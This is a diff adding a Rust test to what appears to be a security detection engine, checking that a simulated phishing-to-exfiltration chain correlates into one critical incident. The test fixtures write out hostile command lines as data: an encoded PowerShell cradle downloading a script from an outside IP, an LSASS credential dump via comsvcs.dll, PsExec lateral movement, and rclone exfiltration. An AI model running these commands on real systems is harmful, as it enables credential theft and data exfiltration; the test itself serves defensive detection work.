@@ -522,3 +522,80 @@ fn commodity_malware_quarantined_is_low() {
         alerts.iter().find(|a| a.title == "Antivirus Detected Malware").map(|a| a.level.clone());
     assert_eq!(low, Some(Some("low".to_string())));
 }
+
+#[test]
+fn demo_story_becomes_one_multi_stage_incident() {
+    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.10/a.ps1')";
+    let mut rows: Vec<(&str, Value)> = vec![
+        (
+            "EmailAttachmentInfo",
+            json!({"TimeGenerated": "2026-11-20T08:01:00Z", "FileName": "Invoice_8812.docm",
+            "RecipientEmailAddress": "jdoe@contoso.com", "SenderFromAddress": "billing@fabrikam-invoices.com", "SHA256": "aa11"}),
+        ),
+        (
+            "DeviceProcessEvents",
+            process(
+                &format!("powershell.exe -nop -w hidden -enc {}", utf16le_base64(cradle)),
+                POWERSHELL,
+                WORD,
+            ),
+        ),
+        (
+            "DeviceProcessEvents",
+            process(
+                r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full",
+                r"C:\Windows\System32\rundll32.exe",
+                POWERSHELL,
+            ),
+        ),
+        (
+            "DeviceProcessEvents",
+            process(
+                r"PsExec64.exe \\SRV-FS01 -accepteula -s cmd.exe",
+                r"C:\ProgramData\PsExec64.exe",
+                POWERSHELL,
+            ),
+        ),
+        (
+            "DeviceProcessEvents",
+            process(
+                r"rclone.exe copy C:\ProgramData\backup.7z remote:",
+                r"C:\ProgramData\rclone.exe",
+                POWERSHELL,
+            ),
+        ),
+        (
+            "DeviceEvents",
+            json!({"TimeGenerated": "2026-11-21T15:00:00Z", "DeviceName": "ws-hr-02", "ActionType": "AntivirusDetection",
+            "AdditionalFields": {"Action": "Quarantine"}}),
+        ),
+    ];
+    for (i, (_, row)) in rows.iter_mut().enumerate().skip(1).take(4) {
+        if let Some(m) = row.as_object_mut() {
+            m.insert("TimeGenerated".into(), json!(format!("2026-11-20T09:{:02}:00Z", i * 10)));
+        }
+    }
+    let mut c = pack().correlator().expect("correlations compile");
+    let alerts: Vec<_> = rows.iter().flat_map(|(t, r)| c.process_row(t, &obj(r.clone()))).collect();
+    let incidents = bulwark_detect::correlate(&alerts, &bulwark_detect::IncidentConfig::default());
+    let main = incidents.iter().max_by_key(|i| i.alerts.len()).expect("an incident");
+    for tactic in
+        ["initial-access", "execution", "credential-access", "lateral-movement", "exfiltration"]
+    {
+        assert!(main.tactics.iter().any(|t| t == tactic), "{tactic} missing: {:?}", main.tactics);
+    }
+    assert_eq!(main.severity, "critical");
+    assert!(main.id.starts_with("INC-"));
+    // The unrelated commodity detection on another device stays its own incident.
+    assert!(
+        incidents
+            .iter()
+            .any(|i| i.alerts.len() == 1
+                && alerts[i.alerts[0]].title == "Antivirus Detected Malware")
+    );
+    let again = bulwark_detect::correlate(&alerts, &bulwark_detect::IncidentConfig::default());
+    assert_eq!(
+        incidents.iter().map(|i| &i.id).collect::<Vec<_>>(),
+        again.iter().map(|i| &i.id).collect::<Vec<_>>()
+    );
+}
